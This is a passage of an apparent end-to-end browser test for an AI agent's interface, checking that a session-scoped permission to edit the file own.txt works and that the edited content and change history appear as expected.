      await approval(page).getByRole("button", { name: /^Always allow edits of the file own\.txt/ }).waitFor();
      await answerWith(page, /^Allow edits of the file own\.txt, in this session/);
      await write("three\n");
      await done.nth(2).waitFor();
      await page.getByRole("link", { name: "Changes" }).click();
      await page.getByRole("region", { name: /^Turn: call write_text_file .*two/ }).waitFor();
      assert.equal(await readFile(join(own.project, "own.txt"), "utf8"), "three\n");
    } finally {
      await own.stop();
    }
  });
});
